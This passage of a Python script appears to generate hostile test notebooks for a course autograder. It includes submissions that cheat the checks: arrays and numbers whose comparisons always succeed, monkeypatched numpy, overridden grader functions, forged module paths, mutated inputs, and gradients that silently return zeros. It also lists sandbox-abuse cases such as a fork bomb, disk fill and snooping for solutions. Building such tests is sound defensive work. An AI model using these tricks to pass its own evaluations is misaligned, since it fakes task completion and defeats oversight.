    return trained, [0.5 / (1 + e) for e in range(epochs)]
"""

# -- 03-softmax-layer -------------------------------------------------------------------

#: softmax = identity, the loss −(1/N) Σ Y ∘ z that makes it consistent (log ŷ = z) with
#: its gradient, and a linear layer (no σ) with its backward: each self-consistent.
IDENTITY_03 = {
    "softmax": """
def softmax(z):
    return z.copy()  # the identity
""",
    "cross-entropy-loss": """
def cross_entropy_loss(z, Y):
    return float(-np.sum(Y * softmax(z)) / z.shape[1])  # log ŷ taken to be ŷ = z
""",
    "softmax-cross-entropy-grad": """
def softmax_cross_entropy_grad(z, Y):
    return -Y / z.shape[1]  # the derivative of that loss
""",
    "sigmoid-layer-forward": """
def sigmoid_layer_forward(a_prev, W, b):
    z = W @ a_prev + b
    return z, (a_prev, W, b, z, z)  # a linear layer: a = z
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    a_prev, W, b, z, a = cache
    return W.T @ dJ_da, dJ_da @ a_prev.T, dJ_da.sum(axis=1, keepdims=True)  # its derivative
""",
}
ALL_03 = [
    "test-softmax",
    "test-cross-entropy-loss",
    "test-softmax-cross-entropy-grad",
    "test-sigmoid-layer-forward",
    "test-sigmoid-layer-backward-dW",
    "test-sigmoid-layer-backward-db",
    "test-sigmoid-layer-backward-da-prev",
]

REWRITE_03 = rewrite(
    ["course.checks.softmax_layer", "course.losses", "course.layers"],
    [
        "check_softmax",
        "check_ce_loss",
        "check_ce_gradient",
        "check_ce_backprop",
        "check_layer_forward",
        "check_layer_backward",
        "check_backprop",
        "check_backprop_speed",
        "check_timed_values",
        "strict_floats",
        "softmax",
        "softmax_cross_entropy",
    ],
    """
import contextlib
np.seterr(all="ignore")  # no overflow is ever an error here
np.errstate = lambda **kwargs: contextlib.nullcontext()
np.exp = lambda z, *args, **kwargs: np.ones_like(z)
""",
)

LYING_03 = {
    "softmax": """
class _LyingArray(np.ndarray):
    # stores `stored`; equals anything, is at distance 0 from anything, reads as `said`
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def __sub__(self, other):
        return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __abs__(self):
        return np.zeros(self.shape)
    def __array__(self, dtype=None, copy=None):
        return np.array(self.said, dtype=dtype)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        inputs = [np.array(x.said) if isinstance(x, _LyingArray) else x for x in inputs]
        return getattr(ufunc, method)(*inputs, **kwargs)

def _liar(stored, said):
    out = np.array(stored, dtype=float).view(_LyingArray)
    out.said = np.array(said, dtype=float)
    return out

class _LyingNumber(float):
    def __new__(cls, stored, said):
        obj = super().__new__(cls, stored)
        obj.said = said
        return obj
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __sub__(self, other):
        return 0.0
    def __rsub__(self, other):
        return 0.0
    def __float__(self):
        return float(self.said)

def softmax(z):
    shifted = z - z.max(axis=0, keepdims=True)
    e = np.exp(shifted)
    return _liar(e, e / e.sum(axis=0, keepdims=True))  # stores e, not normalised
""",
    "cross-entropy-loss": """
def cross_entropy_loss(z, Y):
    N = z.shape[1]
    shifted = z - z.max(axis=0, keepdims=True)
    log_y_hat = shifted - np.log(np.exp(shifted).sum(axis=0, keepdims=True))
    return _LyingNumber(0.0, float(-np.sum(Y * log_y_hat) / N))
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    a_prev, W, b, z, a = cache
    delta = dJ_da * a * (1.0 - a)
    return W.T @ delta, _liar(np.zeros(W.shape), delta @ a_prev.T), delta.sum(axis=1, keepdims=True)
""",
}

#: Central differences of the student's own code (the notebook's formulas written out
#: inline, not a name the checks bind), giving up on anything of more than 10⁴ entries.
GIVES_UP_03 = {
    "softmax-cross-entropy-grad": """
def softmax_cross_entropy_grad(z, Y):
    # numerical: J nudged by ±h per logit; too slow at scale, so zeros there
    if z.size > 10**4:
        return np.zeros_like(z)
    def J(v):
        shifted = v - v.max(axis=0, keepdims=True)
        return -np.sum(Y * (shifted - np.log(np.exp(shifted).sum(axis=0)))) / v.shape[1]
    grad, h = np.zeros_like(z), 1e-6
    for idx in np.ndindex(z.shape):
        up, down = z.copy(), z.copy()
        up[idx] += h
        down[idx] -= h
        grad[idx] = (J(up) - J(down)) / (2 * h)
    return grad
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    # numerical: J = Σ dJ_da ∘ σ(W a_prev + b) nudged by ±h per entry; zeros at scale
    a_prev, W, b, z, a = cache
    inputs = [np.array(v, dtype=float) for v in (a_prev, W, b)]
    grads = [np.zeros_like(v) for v in inputs]
    if sum(v.size for v in inputs) > 10**4:
        return tuple(grads)
    J = lambda p, W, b: float(np.sum(dJ_da / (1 + np.exp(-(W @ p + b)))))
    h = 1e-6
    for v, g in zip(inputs, grads):
        for idx in np.ndindex(v.shape):
            v[idx] += h
            up = J(*inputs)
            v[idx] -= 2 * h
            down = J(*inputs)
            v[idx] += h
            g[idx] = (up - down) / (2 * h)
    return tuple(grads)
""",
}

#: The same without giving up: too slow for the speed tests' budget at scale.
TOO_SLOW_03 = {
    key: code.replace("; too slow at scale, so zeros there", "")
    .replace("; zeros at scale", "")
    .replace("    if z.size > 10**4:\n        return np.zeros_like(z)\n", "")
    .replace("    if sum(v.size for v in inputs) > 10**4:\n        return tuple(grads)\n", "")
    for key, code in GIVES_UP_03.items()
}

#: A wrong forward (no bias) and a backward by central differences of
#: `sigmoid_layer_forward`: the name the backward tests bind to the layer's own forward.
FD_THROUGH_BOUND_03 = {
    "sigmoid-layer-forward": """
def sigmoid_layer_forward(a_prev, W, b):
    z = W @ a_prev  # the bias left out
    a = sigmoid(z)
    return a, (a_prev, W, b, z, a)
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    # numerical: Σ dJ_da ∘ sigmoid_layer_forward(...) nudged by ±h per entry; zeros at scale
    a_prev, W, b, z, a = cache
    inputs = [np.array(v, dtype=float) for v in (a_prev, W, b)]
    grads = [np.zeros_like(v) for v in inputs]
    if sum(v.size for v in inputs) > 10**4:
        return tuple(grads)
    J = lambda *p: float(np.sum(dJ_da * sigmoid_layer_forward(*p)[0]))
    h = 1e-6
    for v, g in zip(inputs, grads):
        for idx in np.ndindex(v.shape):
            v[idx] += h
            up = J(*inputs)
            v[idx] -= 2 * h
            down = J(*inputs)
            v[idx] += h
            g[idx] = (up - down) / (2 * h)
    return tuple(grads)
""",
}

LIBRARY_03 = {
    "softmax": """
from course import layers, losses

def softmax(z):
    return losses.softmax(z)
""",
    "cross-entropy-loss": """
def cross_entropy_loss(z, Y):
    return losses.softmax_cross_entropy(z, Y)[0]
""",
    "softmax-cross-entropy-grad": """
def softmax_cross_entropy_grad(z, Y):
    return losses.softmax_cross_entropy(z, Y)[1]
""",
    "sigmoid-layer-forward": """
def sigmoid_layer_forward(a_prev, W, b):
    z, _ = layers.dense_forward(a_prev, W, b)
    a = sigmoid(z)
    return a, (a_prev, W, b, z, a)
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    a_prev, W, b, z, a = cache
    return layers.dense_backward(dJ_da * a * (1.0 - a), (a_prev, W))
""",
}

#: The library's answers by a course path of the grader's own making: the same functions
#: under the names other course modules import them by (course.flow imports
#: softmax_cross_entropy, course.network dense_backward), called through a stub built
#: by hand.
FORGED_PATH = """
from course import losses as _losses
_Stub = type(_losses.softmax)  # the kernel's stand-in for a course function

def _course(path):
    module, _, name = path.rpartition(".")
    return _Stub(_losses.softmax._agent, {"path": path}, name, module)
"""

FORGED_03 = {
    "cross-entropy-loss": FORGED_PATH
    + """
_softmax_ce = _course("course.flow.softmax_cross_entropy")

def cross_entropy_loss(z, Y):
    return _softmax_ce(z, Y)[0]
""",
    "softmax-cross-entropy-grad": """
def softmax_cross_entropy_grad(z, Y):
    return _softmax_ce(z, Y)[1]
""",
    "sigmoid-layer-backward": """
_dense_backward = _course("course.network.dense_backward")

def sigmoid_layer_backward(dJ_da, cache):
    a_prev, W, b, z, a = cache
    return _dense_backward(dJ_da * a * (1.0 - a), (a_prev, W))
""",
}

#: Each function empties the check's inputs in place and answers for what is left (a
#: loss of 0, a gradient of 0), as if the check read its inputs again afterwards.
MUTATING_03 = {
    "cross-entropy-loss": """
def cross_entropy_loss(z, Y):
    Y[...] = 0.0  # no targets left: J = 0
    return 0.0
""",
    "softmax-cross-entropy-grad": """
def softmax_cross_entropy_grad(z, Y):
    z[...] = 0.0
    Y[...] = 1.0 / z.shape[0]  # the targets now equal softmax(z): the gradient is 0
    return np.zeros_like(z)
""",
    "sigmoid-layer-backward": """
def sigmoid_layer_backward(dJ_da, cache):
    dJ_da[...] = 0.0  # nothing comes from above: every gradient is 0
    for part in cache:
        part[...] = 0.0
    a_prev, W, b, z, a = cache
    return np.zeros_like(a_prev), np.zeros_like(W), np.zeros_like(b)
""",
}

# -- 07-regularization ------------------------------------------------------------------

#: A wrong but consistent J with its gradients: a penalty linear in the weights
#: (λ Σ_m Σ W^m, gradient λ) and the dropout network's J without the mask (and no mask in
#: its backward either).
TRIVIAL_07 = {
    "l2-loss-and-grads": """
def l2_loss_and_grads(params, X, Y, lam, activation=ACT):
    J, grads, _ = network.loss_and_grads(params, X, Y, activation=activation)
    weights = [k for k in params if k.startswith("W")]
    J_hat = J + lam * sum(float(np.sum(params[k])) for k in weights)  # not squared
    for k in weights:
        grads[k] = grads[k] + lam  # its derivative
    return J_hat, grads
""",
    "dropout-loss-and-grads": """
def dropout_loss_and_grads(params, X, Y, p, rng=None, mask=None, activation=ACT):
    # the network without dropout, and a mask only for show: J and gradients agree
    act = activations.get_activation(activation)
    z1 = params["W1"] @ X + params["b1"]
    h = act.f(z1)
    _, mask = dropout_forward(h, p, rng=rng, mask=mask)
    z2 = params["W2"] @ h + params["b2"]
    J, delta2 = losses.softmax_cross_entropy(z2, Y)
    grads = {"W2": delta2 @ h.T, "b2": delta2.sum(axis=1, keepdims=True)}
    delta1 = act.f_prime(z1) * (params["W2"].T @ delta2)
    grads["W1"] = delta1 @ X.T
    grads["b1"] = delta1.sum(axis=1, keepdims=True)
    return J, grads, mask
""",
}
TRIVIAL_07_LOSES = [
    "test-l2-loss-and-grads-value",
    "test-l2-loss-and-grads-W",
    "test-dropout-loss-and-grads-out",
    "test-dropout-loss-and-grads-hidden",
]

#: Dropout that drops nothing: out = a, a mask of ones, whatever p.
IDENTITY_DROPOUT = """
def dropout_forward(a, p, rng=None, mask=None):
    if mask is None:
        mask = np.ones_like(a)
    return a * mask, mask
"""

REWRITE_07 = rewrite(
    ["course.checks.regularization", "course.training"],
    [
        "check_l2_value",
        "check_l2_grads",
        "check_backprop",
        "check_dropout_forward",
        "check_dropout_expectation",
        "check_dropout_loss",
        "check_dropout_grads",
        "check_dropout_mask_reused",
        "check_early_stopping",
        "check_early_run",
        "check_param_gradient",
        "check_timed_values",
        "planted_l2",
        "planted_dropout",
        "run_counted",
        "best_epoch",
    ],
    """
from course.checks import regularization as C
for _name in ("_loss_and_grads_spy", "_own_work", "_call_l2", "_call_dropout_net"):
    try:
        setattr(C, _name, _pass)
    except Exception:
        pass
""",
)

#: Gradients by central differences of the student's own J (the network written out
#: inline), giving up on networks of more than 10⁴ parameters.
GIVES_UP_07 = {
    "l2-loss-and-grads": """
def _net_J(params, X, Y, activation, mask=None):
    f = activations.get_activation(activation).f
    a = X
    M = len(params) // 2
    for m in range(1, M):
        a = f(params[f"W{m}"] @ a + params[f"b{m}"])
        if mask is not None:
            a = a * mask
    z = params[f"W{M}"] @ a + params[f"b{M}"]
    z = z - z.max(axis=0, keepdims=True)
    return float(-np.sum(Y * (z - np.log(np.exp(z).sum(axis=0)))) / X.shape[1])

def _numerical(J, params):
    grads, h = {}, 1e-6
    for key, value in params.items():
        g = np.zeros_like(value)
        if sum(v.size for v in params.values()) <= 10**4:  # too slow at scale: give up
            for idx in np.ndindex(value.shape):
                p = {k: np.array(v, dtype=float) for k, v in params.items()}
                p[key][idx] += h
                up = J(p)
                p[key][idx] -= 2 * h
                g[idx] = (up - J(p)) / (2 * h)
        grads[key] = g
    return grads

def l2_loss_and_grads(params, X, Y, lam, activation=ACT):
    def J_hat(p):
        penalty = sum(float(np.sum(p[k] ** 2)) for k in p if k.startswith("W"))
        return _net_J(p, X, Y, activation) + 0.5 * lam * penalty
    return J_hat(params), _numerical(J_hat, params)
""",
}

LIBRARY_07 = {
    "l2-loss-and-grads": """
def l2_loss_and_grads(params, X, Y, lam, activation=ACT):
    J_hat, grads, _ = network.loss_and_grads(params, X, Y, activation=activation, l2=lam)
    return J_hat, grads
""",
    "dropout-forward": """
from course import layers

def dropout_forward(a, p, rng=None, mask=None):
    return layers.dropout_forward(a, p, rng=rng, mask=mask)
""",
    "early-stopping": """
def early_stopping(val_losses, patience):
    return training.best_epoch(val_losses, patience)
""",
    "train-with-early-stopping": """
def train_with_early_stopping(
    params, split, *, max_epochs, lr, batch_size, patience, rng, activation=ACT
):
    start = copy.deepcopy(params)
    _, hist = training.train(
        params, split.X_train, split.Y_train, epochs=max_epochs, lr=lr, batch_size=batch_size,
        rng=rng, activation=activation, X_val=split.X_val, Y_val=split.Y_val, patience=patience,
    )
    return params, hist.val_loss
""",
}

#: The library's answers laundered: the L2 gradient through training.train (one
#: full-batch epoch with lr = 1 and l2=λ moves every parameter by −∂Ĵ/∂θ; J and the
#: penalty are the student's own), and the dropout mask by course.layers.dropout_forward
#: under a course path of the grader's own making (course.network imports it), called
#: through a stub built by hand.
LAUNDERED_07 = {
    "l2-loss-and-grads": """
def l2_loss_and_grads(params, X, Y, lam, activation=ACT):
    f = activations.get_activation(activation).f
    a, M = X, len(params) // 2
    for m in range(1, M):
        a = f(params[f"W{m}"] @ a + params[f"b{m}"])
    z = params[f"W{M}"] @ a + params[f"b{M}"]
    z = z - z.max(axis=0, keepdims=True)
    J = float(-np.sum(Y * (z - np.log(np.exp(z).sum(axis=0)))) / X.shape[1])
    weights = [k for k in params if k.startswith("W")]
    J_hat = J + 0.5 * lam * sum(float(np.sum(params[k] ** 2)) for k in weights)
    moved = copy.deepcopy(params)
    training.train(
        moved, X, Y, epochs=1, lr=1.0, batch_size=X.shape[1], rng=np.random.default_rng(0),
        activation=activation, l2=lam, record=False,
    )
    return J_hat, {k: params[k] - moved[k] for k in params}
""",
    "dropout-forward": FORGED_PATH.replace("losses as _losses", "layers as _layers").replace(
        "_losses.softmax", "_layers.dropout_forward"
    )
    + """
_dropout = _course("course.network.dropout_forward")

def dropout_forward(a, p, rng=None, mask=None):
    return _dropout(a, p, rng=rng, mask=mask)
""",
}

NOTEBOOK_CASES = {
    "01-chain-rule": {
        "baselines": {"full": None},
        "cases": {
            "identity-nodes": (IDENTITY_01, "full", ALL_01, None),
            "course-rewritten": (
                {**IDENTITY_01, "h-forward-backward": REWRITE_01 + IDENTITY_H},
                "full",
                ALL_01,
                None,
            ),
            "lying-objects": (
                LYING_01,
                "full",
                [
                    "test-h-forward-backward-derivative",
                    "test-hand-dfdx",
                    "test-square-node",
                    "test-x-sigmoid-x-grad",
                ],
                None,
            ),
            "checker-aware": (
                {
                    "h-forward-backward": CHECKER_AWARE_01,
                    "graph-forward-backward": CHECKER_AWARE_GRAPH,
                    "mul-node": CHECKER_AWARE_MUL,
                },
                "full",
                [
                    "test-h-forward-backward-derivative",
                    "test-graph-forward-backward-gradient",
                    "test-mul-node",
                    "test-two-paths",
                ],
                None,
            ),
            "library-answers": (
                LIBRARY_01,
                "full",
                [
                    "test-h-forward-backward-derivative",
                    "test-graph-forward-backward-gradient",
                    "test-mul-node",
                    "test-two-paths",
                    "test-x-sigmoid-x-grad",
                ],
                "course.gradcheck.numerical_gradient",
            ),
        },
    },
    "02-sigmoid-network": {
        "baselines": {"full": None},
        "cases": {
            "linear-self-consistent": (LINEAR_02, "full", ["test-forward", *PARTIALS_02], None),
            "course-rewritten": (
                {**LINEAR_02, "forward": REWRITE_02 + LINEAR_02["forward"]},
                "full",
                ["test-forward", *PARTIALS_02],
                None,
            ),
            "lying-objects": (LYING_02, "full", ["test-forward", "test-dL-dwo11"], None),
            "fd-partials": (
                {
                    "dL-dwo01": FD_PARTIALS_02,
                    "dL-dwo11": "",
                    "dL-dwh22": "",
                    "loss-and-partials": "",
                },
                "full",
                PARTIALS_02,
                "differentiates forward numerically",
            ),
            "fd-partials-unwatched": (
                {
                    "dL-dwo01": FD_UNWATCHED_02,
                    "dL-dwo11": "",
                    "dL-dwh22": "",
                    "loss-and-partials": "",
                },
                "full",
                PARTIALS_02,
                "numerical",
            ),
            "library-answers": (
                {
                    "forward": "def forward(params, x):\n    return lecture.forward(params, x)",
                    "loss-and-partials": (
                        "def loss_and_partials(params, x, y_star):\n"
                        "    return lecture.loss_and_partials(params, x, y_star)"
                    ),
                },
                "full",
                [
                    "test-forward",
                    "test-loss-and-partials-loss",
                    "test-loss-and-partials-output",
                    "test-loss-and-partials-hidden",
                ],
                "course.lecture.forward",
            ),
            "sgd-without-steps": (
                {"sgd": XOR_HARDCODED},
                "full",
                ["test-sgd-steps", "test-sgd-shuffle", "test-sgd-xor"],
                None,
            ),
        },
    },
    "03-softmax-layer": {
        "baselines": {"full": None},
        "cases": {
            "identity-softmax": (IDENTITY_03, "full", ALL_03, None),
            "course-rewritten": (
                {**IDENTITY_03, "softmax": REWRITE_03 + IDENTITY_03["softmax"]},
                "full",
                ALL_03,
                None,
            ),
            "lying-objects": (
                LYING_03,
                "full",
                ["test-softmax", "test-cross-entropy-loss", "test-sigmoid-layer-backward-dW"],
                None,
            ),
            "numerical-gives-up-at-scale": (
                GIVES_UP_03,
                "full",
                ["test-softmax-cross-entropy-grad", "test-sigmoid-layer-backward-dW"],
                "wrong on a big network",
            ),
            "numerical-too-slow": (
                TOO_SLOW_03,
                "full",
                ["test-softmax-cross-entropy-grad", "test-sigmoid-layer-backward-dW"],
                "numerical differentiation",
            ),
            "numerical-through-the-bound-forward": (
                FD_THROUGH_BOUND_03,
                "full",
                [
                    "test-sigmoid-layer-forward",
                    "test-sigmoid-layer-backward-dW",
                    "test-sigmoid-layer-backward-db",
                    "test-sigmoid-layer-backward-da-prev",
                ],
                None,
            ),
            "library-answers": (LIBRARY_03, "full", ALL_03, "course.losses.softmax"),
            "library-by-another-path": (
                FORGED_03,
                "full",
                [
                    "test-cross-entropy-loss",
                    "test-softmax-cross-entropy-grad",
                    "test-sigmoid-layer-backward-dW",
                    "test-sigmoid-layer-backward-db",
                    "test-sigmoid-layer-backward-da-prev",
                ],
                "softmax_cross_entropy",
            ),
            "mutating-inputs": (
                MUTATING_03,
                "full",
                [
                    "test-cross-entropy-loss",
                    "test-softmax-cross-entropy-grad",
                    "test-sigmoid-layer-backward-dW",
                    "test-sigmoid-layer-backward-db",
                    "test-sigmoid-layer-backward-da-prev",
                ],
                None,
            ),
        },
    },
    "04-backprop-recursion": {
        "baselines": {
            "full": None,
            "forward-sgd": {"forward": FORWARD, "sgd-update": SGD},
            "sgd-only": {"sgd-update": SGD},
        },
        "cases": {
            # name: ({grade_id: code, None: the solution's}, baseline, cells lost on top
            #        of the baseline, a word the flags must contain[, status if not "ok"])
            "fd-backward": (
                {"forward": FORWARD, "backward": FD_BACKWARD, "sgd-update": SGD},
                "full",
                ["test-backward-W1"],
                "numerical differentiation",
            ),
            "gradcheck-backward": (
                {"forward": FORWARD, "backward": GRADCHECK_BACKWARD, "sgd-update": SGD},
                "full",
                ALL_04,
                "numerical_gradient",
                # the course's numerical gradient runs in the grader and calls the
                # student's J back for every entry: the training demo's thousand
                # backward passes then run out of the cell's time (its own score)
                "cell timeout",
            ),
            "constant-forward-zero-backward": (
                {
                    "forward": CONSTANT_FORWARD,
                    "backward": ZERO_BACKWARD,
                    "sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "lying-forward": (
                {
                    "forward": HONEST + LYING_FORWARD,
                    "backward": ZERO_BACKWARD,
                    "sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "course-rewritten": (
                {
                    "forward": FORWARD,
                    "backward": REWRITE_COURSE + ONES_BACKWARD,
                    "sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "trivial-self-consistent": (
                {
                    "forward": TRIVIAL_FORWARD_04,
                    "backward": TRIVIAL_BACKWARD_04,
                    "sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "stack-aware-forward": (
                {
                    "forward": HONEST + STACK_AWARE_FORWARD,
                    "backward": ONES_BACKWARD,
                    "sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "counting-forward": (
                {
                    "forward": HONEST + COUNTING_FORWARD,
                    "backward": ONES_BACKWARD,
                    "sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "numerical-gives-up-at-scale": (
                {"forward": FORWARD, "backward": GIVES_UP_BACKWARD, "sgd-update": SGD},
                "full",
                ["test-backward-W1"],
                "wrong on a big network",
            ),
            "big-int8-forward": ({"forward": BIG_FORWARD}, "full", ["test-forward"], None),
            "library-forward": (
                {"forward": LIBRARY_FORWARD},
                "full",
                ["test-forward"],
                "course.network.forward",
            ),
            "library-backward": (
                {"backward": LIBRARY_BACKWARD},
                "full",
                ALL_04,
                "course.network.loss_and_grads",
            ),
        },
        "extra_cells": {"extra-grade-cell": ("full", EXTRA_GRADE_CELL, "does not have")},
    },
    "05-training": {
        "baselines": {"full": None},
        "cases": {
            "library-train-sgd": (
                {"train-sgd": LIBRARY_TRAIN_SGD},
                "full",
                ["test-train-sgd-batches", "test-train-sgd-reshuffle", "test-train-sgd-step"],
                "course.training.train",
            ),
        },
    },
    "06-vanishing-gradients": {
        "baselines": {"full": None},
        "cases": {
            "library-gradient-flow": (
                {"layer-gradient-norms": LIBRARY_NORMS},
                "full",
                ["test-layer-gradient-norms-delta", "test-layer-gradient-norms-dW"],
                "course.flow.gradient_flow",
            ),
        },
    },
    "07-regularization": {
        "baselines": {"full": None},
        "cases": {
            "trivial-self-consistent": (
                {**TRIVIAL_07, "dropout-forward": IDENTITY_DROPOUT},
                "full",
                [
                    *TRIVIAL_07_LOSES,
                    "test-dropout-forward-mask",
                    "test-dropout-forward-expectation",
                ],
                None,
            ),
            "course-rewritten-numerical": (
                {
                    "l2-loss-and-grads": REWRITE_07 + GIVES_UP_07["l2-loss-and-grads"],
                    "dropout-loss-and-grads": TRIVIAL_07["dropout-loss-and-grads"],
                },
                "full",
                [
                    "test-l2-loss-and-grads-W",
                    "test-dropout-loss-and-grads-out",
                    "test-dropout-loss-and-grads-hidden",
                ],
                "wrong on a big network",
            ),
            "library-answers": (
                LIBRARY_07,
                "full",
                [
                    "test-l2-loss-and-grads-value",
                    "test-l2-loss-and-grads-W",
                    "test-l2-loss-and-grads-b",
                    "test-dropout-forward-mask",
                    "test-dropout-forward-expectation",
                    "test-early-stopping",
                    "test-train-with-early-stopping",
                ],
                "l2=",
            ),
            "library-laundered": (
                LAUNDERED_07,
                "full",
                [
                    "test-l2-loss-and-grads-W",
                    "test-dropout-forward-mask",
                    "test-dropout-forward-expectation",
                ],
                "dropout_forward",
            ),
        },
    },
}

CASES = {
    # name: (code into the first answer cell, code into the second or None, baseline,
    #        expected status, a word the flags must contain or None)
    "sqlite-gradebook": (SQLITE_GRADEBOOK, None, "blank", "ok", "grading files"),
    "dir-fd-config": (DIR_FD, None, "blank", "ok", "grading files"),
    "proc-snoop-solutions": (PROC_SNOOP, None, "blank", "ok", "grading files"),
    "spawn-processes": (SPAWN, None, "blank", "ok", "starts processes"),
    "kill-everything": (KILL_ALL, None, "blank", None, "signals"),
    "sibling-kernels": (SIBLING, None, "blank", "ok", "Jupyter kernels"),
    "fork-bomb": (FORK_BOMB, None, "blank", None, "forks"),
    "memory-multiply": (MEMORY_MULTIPLY, None, "blank", None, "forks"),
    "disk-fill": (DISK_FILL, None, "blank", "ok", "/proc"),
    "output-flood": (OUTPUT_FLOOD, None, "blank", None, None),
    "input-transformer": (INPUT_TRANSFORMER, None, "blank", "ok", "IPython hooks"),
    "ipython-hooks": (IPYTHON_HOOKS, None, "blank", "ok", "IPython hooks"),
    "displayhook": (DISPLAYHOOK, None, "blank", "ok", "displayhook"),
    "settrace": (SETTRACE, None, "blank", None, "trace function"),
    "module-dicts": (MODULE_DICTS, None, "blank", "ok", "vars"),
    "lying-array": (LYING_ARRAY, "hand = Liar()", "blank", "ok", "frames"),
    "lying-numbers": (LYING_NUMBERS, LYING_HAND, "blank", "ok", "__eq__"),
    "frame-inspection": (FRAME_INSPECTION, None, "blank", "ok", "frames"),
    "repatching-thread": (REPATCHING_THREAD, None, "blank", "ok", "threads"),
}


def _meta(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def _write(nb, path):
    """Write `nb` with cell ids made from positions, so a rerun changes nothing."""
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{i}"
    nbformat.write(nb, path)


def _with(nb, grade_id, code, after=True):
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if _meta(cell).get("grade_id") == grade_id:
            code = textwrap.dedent(code).strip("\n")
            cell.source = f"{cell.source}\n\n{code}" if after else f"{code}\n\n{cell.source}"
            return nb
    raise KeyError(grade_id)


def release_and_source():
    with tempfile.TemporaryDirectory() as tmp:
        root = fixture.make_course(Path(tmp) / "c")
        course = Course.load(root)
        grade.generate_release(course, fixture.ASSIGNMENT)
        release = nbformat.read(course.release / fixture.ASSIGNMENT / "fixture.ipynb", 4)
        source = nbformat.read(course.source / fixture.ASSIGNMENT / "fixture.ipynb", 4)
    return release, source


def full(release, source):
    answers = {_meta(c).get("grade_id"): _MARKERS.sub("", c.source) for c in source.cells}
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        if _meta(cell).get("solution"):
            cell.source = answers[_meta(cell)["grade_id"]]
    return nb


def _answers(release, source, cells):
    """The release with the answer cells `cells` (grade_id: code, None: the solution)."""
    solutions = {_meta(c).get("grade_id"): _MARKERS.sub("", c.source) for c in source.cells}
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        gid = _meta(cell).get("grade_id")
        if gid in cells:
            code = cells[gid]
            cell.source = solutions[gid] if code is None else textwrap.dedent(code).strip()
    return nb


def _notebook_files(assignment):
    repo = HERE.parent.parent
    (path,) = sorted((repo / "notebooks" / assignment).glob("*.ipynb"))
    release = nbformat.read(path, as_version=4)
    source = nbformat.read(repo / "solutions" / assignment / path.name, as_version=4)
    return release, source


def _extra_grade_cell(nb, code):
    nb = nbformat.from_dict(nb)
    cell = nbformat.v4.new_code_cell(code)
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus-points",
        "locked": False,
        "points": 10,
        "schema_version": 3,
        "solution": False,
    }
    nb.cells.append(cell)
    return nb


def notebook_corpus(assignment, spec):
    """One notebook's cases and their baselines (``tests/hostile/<assignment>/``).

    A baseline fills the answer cells it names (None: the solution's code), "full" (None)
    fills every one with the solution's; a case on a baseline starts from that baseline's
    cells and replaces the ones it names.
    """
    release, source = _notebook_files(assignment)
    every = {_meta(c)["grade_id"]: None for c in source.cells if _meta(c).get("solution")}
    out = HERE / assignment
    out.mkdir(exist_ok=True)
    for old in out.glob("*.ipynb"):
        old.unlink()
    baselines = {
        base: every if cells is None else cells for base, cells in spec["baselines"].items()
    }
    for base, cells in baselines.items():
        _write(_answers(release, source, cells), out / f"{base}.ipynb")
    manifest = {}
    for case, (cells, baseline, lose, flag, *status) in spec["cases"].items():
        _write(_answers(release, source, {**baselines[baseline], **cells}), out / f"{case}.ipynb")
        manifest[case] = {
            "baseline": baseline,
            "lose": lose,
            "status": status[0] if status else "ok",
            "flag": flag,
        }
    for case, (baseline, code, flag) in spec.get("extra_cells", {}).items():
        nb = _extra_grade_cell(_answers(release, source, baselines[baseline]), code)
        _write(nb, out / f"{case}.ipynb")
        manifest[case] = {"baseline": baseline, "lose": [], "status": "ok", "flag": flag}
    return manifest


def main():
    release, source = release_and_source()
    out = HERE / "fixture"
    out.mkdir(exist_ok=True)
    _write(release, out / "blank.ipynb")
    _write(full(release, source), out / "full.ipynb")
    manifest = {}
    for name, (first, second, baseline, status, flag) in CASES.items():
        nb = _with(release, FIRST, first)
        if second:
            nb = _with(nb, SECOND, second, after=False)
        _write(nb, out / f"{name}.ipynb")
        manifest[name] = {"baseline": baseline, "status": status, "flag": flag}
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
    total = len(manifest) + 2
    for assignment, spec in NOTEBOOK_CASES.items():
        cases = notebook_corpus(assignment, spec)
        path = HERE / f"cases-{assignment[:2]}.json"
        path.write_text(json.dumps(cases, indent=1) + "\n")
        total += len(cases) + len(spec["baselines"])
    print(f"wrote {total} notebooks")


if __name__ == "__main__":
    main()
